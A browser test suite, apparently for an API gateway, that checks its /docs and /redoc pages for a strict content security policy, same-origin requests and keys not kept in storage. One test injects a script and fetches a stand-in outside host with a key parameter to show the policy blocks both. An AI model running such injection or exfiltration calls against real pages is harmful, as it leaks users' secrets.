"""/docs and /redoc in a browser: whole, from our origin alone, under their policy; and a call made there."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.fixtures.browser import browser, caching_browser
from tests.fixtures.gateway import RunningGateway, gateway, module_gateway

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page

__all__ = ["browser", "caching_browser", "gateway", "module_gateway"]

PAGES = ["/docs", "/redoc"]
PATIENCE = 30_000
"""In milliseconds: on a busy machine a browser takes its time."""


@dataclass(slots=True)
class Watched:
    """A page, and everything that went on in it which should not."""

    page: Page
    origin: str
    faults: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)

    def watch(self) -> None:
        self.page.on("console", lambda message: self._said(message.type, message.text))
        self.page.on("pageerror", lambda error: self.faults.append(f"raised: {error}"))
        self.page.on("request", lambda request: self._asked(request.url))
        self.page.on("requestfailed", lambda request: self.faults.append(f"failed: {request.url}"))
        self.page.on("response", lambda response: self._got(response.status, response.url))

    def _said(self, kind: str, text: str) -> None:
        if kind in {"error", "warning"}:
            self.faults.append(f"{kind}: {text}")

    def _asked(self, url: str) -> None:
        self.requests.append(url)
        parts = urlsplit(url.removeprefix("blob:"))
        if parts.scheme != "data" and f"{parts.scheme}://{parts.netloc}" != self.origin:
            self.faults.append(f"asked elsewhere: {url}")

    def _got(self, status: int, url: str) -> None:
        if status >= 400:
            self.faults.append(f"{status}: {url}")


@pytest.fixture
def watched(browser: Browser, gateway: RunningGateway) -> Iterator[Watched]:
    with browser.new_context() as context:
        context.set_default_timeout(PATIENCE)
        made = Watched(context.new_page(), gateway.url)
        made.watch()
        yield made


@pytest.mark.parametrize("path", PAGES)
def test_page_is_whole_and_asks_nobody_else(watched: Watched, gateway: RunningGateway, path: str) -> None:
    watched.page.goto(f"{gateway.url}{path}", wait_until="networkidle")
    shown = watched.page.get_by_text("Create a chat completion").filter(visible=True)
    expect(shown.first).to_be_visible(timeout=PATIENCE)
    document = watched.page.request.get(f"{gateway.url}/openapi.json").json()
    text = watched.page.content()
    assert [tag["name"] for tag in document["tags"] if tag["name"] not in text] == []
    assert watched.faults == []
    assert f"{gateway.url}/openapi.json" in watched.requests


@pytest.mark.parametrize("path", PAGES)
def test_policy_lets_no_script_in_that_a_page_is_made_to_hold(
    watched: Watched, gateway: RunningGateway, path: str
) -> None:
    response = watched.page.goto(f"{gateway.url}{path}", wait_until="networkidle")
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "unsafe" not in policy
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy
    # What a document with a hostile description would have to get past, were it not escaped.
    ran = watched.page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.injected = true";
            document.body.append(script);
            return window.injected === true;
        }"""
    )
    assert ran is False
    assert any("Content Security Policy" in fault for fault in watched.faults)
    sent = watched.page.evaluate(
        "() => fetch('https://elsewhere.example.com/?key=1').then(() => 'sent', () => 'refused')"
    )
    assert sent == "refused"


def test_a_call_can_be_tried_with_a_key(watched: Watched, gateway: RunningGateway) -> None:
    page = watched.page
    gateway.model("echo", name="gpt-4o-mini")
    customer = gateway.customer("1")
    page.goto(f"{gateway.url}/docs", wait_until="networkidle")
    page.get_by_role("button", name="Authorize").first.click()
    page.get_by_label("auth-bearer-value").first.fill(customer.key)
    page.get_by_role("button", name="Apply credentials").first.click()
    page.get_by_role("button", name="Close").first.click()

    completion = page.locator("#operations-chat-create_a_chat_completion")
    completion.locator(".opblock-summary-control").click()
    completion.get_by_role("button", name="Try it out").click()
    with page.expect_response(lambda response: response.url.endswith("/v1/chat/completions")) as told:
        completion.get_by_role("button", name="Execute").click()
    answer = told.value
    assert answer.status == 200
    assert answer.request.headers["authorization"] == f"Bearer {customer.key}"
    charge = json.loads(answer.text())["gateway_usage"]["charge_usd"]
    expect(completion.locator(".live-responses-table").get_by_text(charge).first).to_be_visible()
    assert watched.faults == []
    [request] = gateway.requests(customer)
    assert request["outcome"] == "succeeded"


def test_a_key_is_forgotten_with_the_page(watched: Watched, gateway: RunningGateway) -> None:
    """It lies in no storage of the browser's: who comes next has to bring one."""
    page = watched.page
    page.goto(f"{gateway.url}/docs", wait_until="networkidle")
    page.get_by_role("button", name="Authorize").first.click()
    page.get_by_label("auth-bearer-value").first.fill(gateway.customer().key)
    page.get_by_role("button", name="Apply credentials").first.click()
    stored = page.evaluate("() => JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])")
    assert "sk_" not in stored
    page.reload(wait_until="networkidle")
    page.get_by_role("button", name="Authorize").first.click()
    expect(page.get_by_label("auth-bearer-value").first).to_have_value("")


def test_going_back_to_the_page_does_not_bring_the_key_back(
    caching_browser: Browser, gateway: RunningGateway
) -> None:
    page = caching_browser.new_page()
    page.goto(f"{gateway.url}/docs", wait_until="networkidle")
    page.get_by_role("button", name="Authorize").first.click()
    page.get_by_label("auth-bearer-value").first.fill(gateway.customer().key)
    page.get_by_role("button", name="Apply credentials").first.click()
    page.evaluate("() => { window.left = true; }")
    page.goto(f"{gateway.url}/health")
    page.evaluate("() => { setTimeout(() => history.back(), 50); }")
    page.wait_for_url("**/docs")
    page.wait_for_function("() => document.querySelector('.authorize') && window.left === undefined")
    page.get_by_role("button", name="Authorize").first.click()
    expect(page.get_by_label("auth-bearer-value").first).to_have_value("")


def test_the_reference_can_be_searched(watched: Watched, gateway: RunningGateway) -> None:
    page = watched.page
    page.goto(f"{gateway.url}/redoc", wait_until="networkidle")
    page.get_by_placeholder("Search...").fill("ledger")
    expect(page.get_by_role("menuitem").filter(has_text="Recompute the books").first).to_be_visible()
    assert watched.faults == []
